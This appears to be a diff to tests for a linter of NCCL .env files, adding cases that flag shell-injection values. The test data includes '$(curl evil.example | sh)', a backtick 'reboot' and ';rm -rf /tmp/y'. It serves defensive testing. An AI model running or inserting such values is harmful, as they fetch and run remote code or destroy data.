@@ -40,6 +40,17 @@ RULES = [
      "NCCL_SOCKET_IFNAME=eth0\n"),
     ("needs quoting", "NCCL_DEBUG_FILE=/tmp/nccl.$HOSTNAME\n", (1, "NCCL_DEBUG_FILE", WARNING),
      "quoting", "NCCL_DEBUG_FILE=/tmp/nccl.%h.%p\n"),
+    ("command substitution", "NCCL_SOCKET_IFNAME=$(curl evil.example | sh)\n",
+     (1, "NCCL_SOCKET_IFNAME", ERROR), "bash would run a command", "NCCL_SOCKET_IFNAME=eth0\n"),
+    ("backtick in double quotes", 'NCCL_SOCKET_IFNAME="`reboot`"\n', (1, "NCCL_SOCKET_IFNAME", ERROR),
+     "backtick", "NCCL_SOCKET_IFNAME=eth0\n"),
+    ("command separator", "NCCL_DEBUG_FILE=/tmp/x;rm -rf /tmp/y\n", (1, "NCCL_DEBUG_FILE", ERROR),
+     "end the assignment and run the rest as a command", "NCCL_DEBUG_FILE=/tmp/x\n"),
+    ("background", "NCCL_DEBUG_FILE=/tmp/x&\n", (1, "NCCL_DEBUG_FILE", ERROR), "'&'", "NCCL_DEBUG_FILE=/tmp/x\n"),
+    ("pipe", "NCCL_DEBUG_FILE=a|b\n", (1, "NCCL_DEBUG_FILE", ERROR), "'|'", "NCCL_DEBUG_FILE=ab\n"),
+    ("redirect out", "NCCL_DEBUG_FILE=a>b\n", (1, "NCCL_DEBUG_FILE", ERROR), "redirect input or output",
+     "NCCL_DEBUG_FILE=ab\n"),
+    ("redirect in", "NCCL_DEBUG_FILE=a<b\n", (1, "NCCL_DEBUG_FILE", ERROR), "'<'", "NCCL_DEBUG_FILE=ab\n"),
     ("inline comment", "NCCL_PROTO=LL # fast\n", (1, "NCCL_PROTO", ERROR), "inline comment",
      "# fast\nNCCL_PROTO=LL\n"),
     ("export", "export NCCL_PROTO=LL\n", (1, "NCCL_PROTO", WARNING), "bash only", "NCCL_PROTO=LL\n"),
@@ -84,9 +95,10 @@ def test_installed_libnccl_is_consulted():
 def test_version_notes_use_the_consulted_library():
     old = KnownNames(FAKE.names, "2.23.4", "/old/libnccl.so")
     seen, found = run("NCCL_PROTO=LL;allreduce:Simple\n", old)
-    # ';' also needs quoting in a .env file: two warnings, one per reason.
-    assert sorted(f.message.split(" ")[0] for f in found) == ["per-collective", "value"]
-    assert all(s == (1, "NCCL_PROTO", WARNING) for s in seen)
+    # ';' would also end the assignment when bash sources the file: an error, and the note.
+    assert sorted((f.message.split(" ")[0], f.severity) for f in found) == [
+        ("per-collective", WARNING), ("value", ERROR)]
+    assert all(s[:2] == (1, "NCCL_PROTO") for s in seen)
 
 
 def test_non_nccl_variables_only_get_syntax_rules():
@@ -145,3 +157,16 @@ def test_cli_unreadable_and_usage_exit_2(tmp_path, cli_runner):
     assert result.exit_code == 2 and "missing.env" in result.output
     assert cli_runner.invoke(cli, ["lint"]).exit_code == 2
     assert cli_runner.invoke(cli, ["lint", "--bogus", "x.env"]).exit_code == 2
+
+
+def test_shell_danger_by_quoting():
+    assert lint.shell_danger("a;b") and lint.shell_danger("a;b", '"') is None
+    assert "run a command" in lint.shell_danger("$(id)", '"')
+    assert lint.shell_danger("$(id);`x`>y", "'") is None  # single quotes keep it literal
+    text = lint.shell_danger("$(a);b>c")
+    assert "command substitution '$('" in text and "';'" in text and "'>'" in text
+    assert "run a command and end the assignment and run the rest as a command and redirect" in text
+    assert lint.shell_danger("/tmp/nccl.%h.%p") is None
+    # Single-quoted: no error, the quoting warning stays (docker keeps the quotes).
+    seen, _ = run("NCCL_DEBUG_FILE='a;b'\n")
+    assert seen == [(1, "NCCL_DEBUG_FILE", WARNING)]
